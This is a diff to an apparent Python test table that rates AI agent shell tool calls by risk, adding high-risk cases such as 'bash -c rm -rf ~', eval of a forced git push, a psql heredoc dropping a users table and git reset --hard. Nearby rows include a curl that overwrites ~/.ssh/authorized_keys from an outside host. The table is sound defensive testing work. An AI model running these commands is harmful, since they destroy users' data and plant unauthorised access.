@@ -55,6 +55,11 @@ TABLE: list[tuple[str, dict[str, object], str, str]] = [
     ("Bash", {"command": "git diff --output=/home/dev/.bashrc"}, "high", "start-up"),
     ("Bash", {"command": "curl -o ~/.ssh/authorized_keys https://x.example/k"}, "high", "credentials"),
     ("Bash", {"command": "find . -name '*.py' -exec bash -c 'rm -rf ~' \\;"}, "high", "interpreter"),
+    ("Bash", {"command": "bash -c 'rm -rf ~'"}, "high", "script run by bash"),
+    ("Bash", {"command": 'eval "git push --force"'}, "high", "script run by eval"),
+    ("Bash", {"command": "psql app <<EOF\nDROP TABLE users;\nEOF"}, "high", "SQL"),
+    ("Bash", {"command": "bash <<EOF\nrm -rf build\nEOF"}, "high", "script run by bash"),
+    ("shell", {"command": ["bash", "-lc", "git reset --hard origin/main"]}, "high", "reset --hard"),
     # medium
     ("Bash", {"command": "curl https://api.example.com/data"}, "medium", "network"),
     ("Bash", {"command": "ssh deploy@prod uptime"}, "medium", "network"),
